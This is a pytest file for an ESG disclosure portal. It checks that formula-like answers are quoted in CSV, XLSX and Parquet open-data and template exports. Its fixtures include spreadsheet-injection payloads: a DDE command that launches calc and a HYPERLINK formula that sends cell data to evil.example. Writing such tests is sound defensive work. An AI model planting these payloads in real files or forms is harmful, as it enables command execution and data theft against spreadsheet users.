"""Issue 13 (item 3): answers that look like formulas come out of every export quoted.

Disclosures are written and published through the actions; each export is downloaded as a
person would and read back (CSV as text, Excel with openpyxl).
"""

from __future__ import annotations

import csv
import io

import polars as pl
import pytest
from openpyxl import load_workbook

from czesg.disclosures import actions
from czesg.engine.catalogue import load_catalogue
from czesg.engine.disclosure import workbook
from czesg.portal.opendata import csv_frame

pytestmark = pytest.mark.django_db

# Text answers and not-applicable explanations (indicator -> text) that a spreadsheet would run;
# the basic tier's two text indicators and three of its indicators marked not applicable.
TEXT_ANSWERS = {"G-GEN-04": "=cmd|' /C calc'!A0", "G-GEN-06": "+SUM(1,1)"}
EXPLANATIONS = {
    "E-WST-01": '=HYPERLINK("http://evil.example/?d="&A1,"不适用")',
    "E-WST-02": "@SUM(1)",
    "S-OHS-03": "-1+2",
}


def with_formula_text(draft, actor):
    """Give a draft the formula-like text answers and explanations, through the actions."""
    actions.set_values(draft, [actions.Entry(code, text, "") for code, text in TEXT_ANSWERS.items()],
                       actor=actor)
    for code, explanation in EXPLANATIONS.items():
        actions.mark_not_applicable(draft, code, explanation, actor=actor)
    return draft


@pytest.fixture
def published(draft_a, alice, fill_basic):
    fill_basic(draft_a, alice)
    with_formula_text(draft_a, alice)
    actions.submit_disclosure(draft_a, actor=alice)
    actions.publish_disclosure(draft_a, actor=alice)
    return draft_a


def test_open_data_csv_quotes_formula_like_text_and_keeps_numbers(client, published):
    content = b"".join(client.get("/open-data/2024.csv").streaming_content).decode("utf-8-sig")
    rows = {row["indicator"]: row for row in csv.DictReader(io.StringIO(content))}
    for code, text in TEXT_ANSWERS.items():
        assert rows[code]["value"] == "'" + text
        assert rows[code]["entered_value"] in ("", "'" + text)
    for code, explanation in EXPLANATIONS.items():
        assert rows[code]["na_explanation"] == "'" + explanation
    assert rows["E-GHG-01"]["value"] == "1000.0"
    # Parquet is typed data, not a spreadsheet: the text stays as the enterprise gave it.
    parquet = pl.read_parquet(io.BytesIO(b"".join(client.get("/open-data/2024.parquet").streaming_content)))
    by_code = {r["indicator"]: r for r in parquet.iter_rows(named=True)}
    assert by_code["G-GEN-04"]["value"] == TEXT_ANSWERS["G-GEN-04"]
    assert by_code["E-WST-02"]["na_explanation"] == EXPLANATIONS["E-WST-02"]


def test_open_data_csv_keeps_a_negative_number_a_number():
    frame = pl.DataFrame([{"value": "-3.5", "na_explanation": "-note"}, {"value": None,
                                                                          "na_explanation": None}])
    assert csv_frame(frame).rows() == [("-3.5", "'-note"), (None, None)]


def template_rows(client, disclosure, fmt):
    response = client.get(f"/disclosures/{disclosure.pk}/template/",
                          {"format": fmt} if fmt == "csv" else {})
    assert response.status_code == 200
    if fmt == "csv":
        records = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        return {r[0]: r for r in records[2:] if r}
    sheet = load_workbook(io.BytesIO(response.content))[workbook.DATA_SHEET]
    return {row[0].value: [c for c in row] for row in sheet.iter_rows(min_row=2) if row[0].value}


def test_template_csv_quotes_formula_like_text(client, draft_a, alice):
    with_formula_text(draft_a, alice)
    client.force_login(alice)
    rows = template_rows(client, draft_a, "csv")
    value, na = workbook.COLUMNS.index(_column("value")), workbook.COLUMNS.index(_column("na"))
    for code, text in TEXT_ANSWERS.items():
        assert rows[code][value] == "'" + text
    for code, explanation in EXPLANATIONS.items():
        assert rows[code][na] == "'" + explanation


def test_template_xlsx_holds_formula_like_text_as_quoted_text(client, draft_a, alice):
    with_formula_text(draft_a, alice)
    client.force_login(alice)
    rows = template_rows(client, draft_a, "xlsx")
    value, na = workbook.COLUMNS.index(_column("value")), workbook.COLUMNS.index(_column("na"))
    for code, text in TEXT_ANSWERS.items():
        cell = rows[code][value]
        assert (cell.value, cell.data_type) == ("'" + text, "s")
    for code, explanation in EXPLANATIONS.items():
        assert (rows[code][na].value, rows[code][na].data_type) == ("'" + explanation, "s")


def test_a_downloaded_template_uploads_back_to_the_same_answers(client, draft_a, alice):
    with_formula_text(draft_a, alice)
    client.force_login(alice)
    for fmt in ("csv", "xlsx"):
        response = client.get(f"/disclosures/{draft_a.pk}/template/",
                              {"format": fmt} if fmt == "csv" else {})
        reader = workbook.read_csv if fmt == "csv" else workbook.read_workbook
        upload = reader(response.content, load_catalogue())
        entries = {e.code: e.raw for e in upload.entries}
        assert {code: entries[code] for code in TEXT_ANSWERS} == TEXT_ANSWERS
        explanations = {n.code: n.explanation for n in upload.not_applicable}
        assert {code: explanations[code] for code in EXPLANATIONS} == EXPLANATIONS


def _column(key):
    return next(c for c in workbook.COLUMNS if c.key == key)


def test_content_index_csv_quotes_every_cell_through_the_same_function(client, published):
    from czesg.esgreport.indexes import indexes_csv

    # Its cells are codes and statuses (no text an enterprise typed), written through the one
    # function all the same: a framework reference that began with a sign would be quoted.
    crafted = [{"key": "=GRI", "confidence": "confirmed", "rows": [
        {"ref": "-305-1", "status": "+ok", "answered_by": [{"code": "@E-GHG-01"}],
         "indicators": ["E-GHG-01"]}]}]
    rows = list(csv.reader(io.StringIO(indexes_csv(crafted))))
    assert rows[1] == ["'=GRI", "'-305-1", "'+ok", "'@E-GHG-01", "E-GHG-01", "confirmed"]
    download = client.get(f"/disclosures/{published.pk}/content-index.csv")
    body = download.content.decode("utf-8-sig")
    assert download.status_code == 200 and body.startswith("framework,")
    for line in list(csv.reader(io.StringIO(body)))[1:]:
        assert not any(cell[:1] in "=+-@\t\r" and cell for cell in line), line
